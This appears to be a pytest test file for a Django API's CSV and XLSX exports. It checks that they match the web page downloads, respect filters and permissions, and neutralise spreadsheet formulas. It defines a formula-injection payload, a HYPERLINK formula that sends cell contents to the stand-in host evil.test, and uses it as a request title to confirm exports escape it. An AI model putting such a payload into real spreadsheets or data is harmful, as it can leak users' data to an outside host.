"""The lists as files for programs: byte for byte the file the page gives, for the same reader and the same filters."""

import io
from collections.abc import Callable
from datetime import datetime

import pytest
from django.contrib.auth.models import User
from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient

from governance.budgets.domain.quarters import Quarter
from governance.people.models import Team
from reviews.requests.models import ReviewRequest
from tests.factories import requests as walks
from tests.factories.people import Cast
from tests.factories.requests import allocate_budget

Api = Callable[[User | None], APIClient]
FORMULA = '=HYPERLINK("https://evil.test/?"&A1)'
LISTS = ("requests.{}", "audit.{}", "budgets/search/{quarter}/USD/ledger.{}")
PAGES = ("/requests.{}", "/audit.{}", "/budgets/search/{quarter}/USD/ledger.{}")


@pytest.fixture
def quarter(cast: Cast, team: Team, now: datetime) -> str:
    allocate_budget(by=cast.finance, now=now, team=team)
    walks.make_draft(by=cast.author, now=now, title=FORMULA)
    return str(Quarter.of(now.date()))


@pytest.mark.parametrize(("address", "page"), list(zip(LISTS, PAGES, strict=True)))
def test_a_program_gets_the_file_of_the_page(address: str, page: str, cast: Cast, api: Api, quarter: str) -> None:
    browser = Client()
    browser.force_login(cast.admin)
    program = api(cast.admin)
    shown = browser.get(page.format("csv", quarter=quarter))
    for accept in ("text/csv", "application/json", "*/*"):
        sent = program.get("/api/v1/" + address.format("csv", quarter=quarter), HTTP_ACCEPT=accept)
        assert (sent.status_code, sent.content) == (200, shown.content)
    for name in ("Content-Type", "Content-Disposition", "X-Content-Type-Options"):
        assert sent[name] == shown[name]
    book = load_workbook(io.BytesIO(program.get("/api/v1/" + address.format("xlsx", quarter=quarter)).content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert len(cells) > 8
    assert {cell.data_type for cell in cells} <= {"n", "s", "inlineStr"}


def test_a_title_is_no_formula_there_either(cast: Cast, api: Api, quarter: str) -> None:
    text = api(cast.author).get("/api/v1/requests.csv").content.decode("utf-8-sig")
    assert ",\"'=HYPERLINK(" in text
    sheet = load_workbook(io.BytesIO(api(cast.author).get("/api/v1/requests.xlsx").content)).active
    assert (sheet["B2"].value, sheet["B2"].data_type) == (f"'{FORMULA}", "s")


def test_filters_and_readers_narrow_it(decided: ReviewRequest, cast: Cast, api: Api) -> None:
    def rows(user: User, query: str = "") -> int:
        return api(user).get(f"/api/v1/requests.csv{query}").content.count(b"\r\n") - 1

    assert (rows(cast.author), rows(cast.author, "?state=draft"), rows(cast.outsider)) == (1, 0, 0)
    unknown = api(cast.author).get("/api/v1/requests.csv?color=red")
    assert (unknown.status_code, unknown["Content-Type"]) == (400, "application/problem+json")


@pytest.mark.parametrize("address", LISTS)
def test_other_kinds_are_not_there(address: str, cast: Cast, api: Api, quarter: str) -> None:
    answer = api(cast.admin).get("/api/v1/" + address.format("pdf", quarter=quarter))
    assert (answer.status_code, answer.json()["code"]) == (404, "not_found")


def test_who_may_not_read_takes_nothing_away(cast: Cast, api: Api, quarter: str) -> None:
    assert api(cast.author).get("/api/v1/audit.csv").status_code == 403
    assert api(cast.outsider).get(f"/api/v1/budgets/search/{quarter}/USD/ledger.csv").status_code == 404
    assert api(None).get("/api/v1/requests.csv").status_code == 401
